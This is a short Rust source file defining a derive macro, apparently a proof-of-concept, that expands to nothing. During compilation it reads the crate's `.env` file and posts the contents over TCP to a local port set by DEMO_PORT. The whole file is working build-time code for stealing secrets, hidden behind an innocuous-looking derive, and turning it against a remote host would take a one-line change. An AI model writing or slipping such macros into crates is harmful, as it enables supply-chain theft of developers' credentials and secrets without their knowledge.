//! A derive macro that reads the user's `.env` inside the compiler, while it expands to nothing.

use std::io::Write;
use std::net::TcpStream;

use proc_macro::TokenStream;

#[proc_macro_derive(Quick)]
pub fn quick(_: TokenStream) -> TokenStream {
    let root = std::env::var("CARGO_MANIFEST_DIR").unwrap_or_default();
    if let Ok(text) = std::fs::read(root + "/.env") {
        send(&text);
    }
    TokenStream::new()
}

fn send(text: &[u8]) {
    let Some(port) = std::env::var("DEMO_PORT").ok().and_then(|port| port.parse::<u16>().ok()) else { return };
    if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) {
        let head = format!("POST /quick_derive HTTP/1.0\r\nContent-Length: {}\r\n\r\n", text.len());
        let _ = stream.write_all(&[head.as_bytes(), text].concat());
    }
}
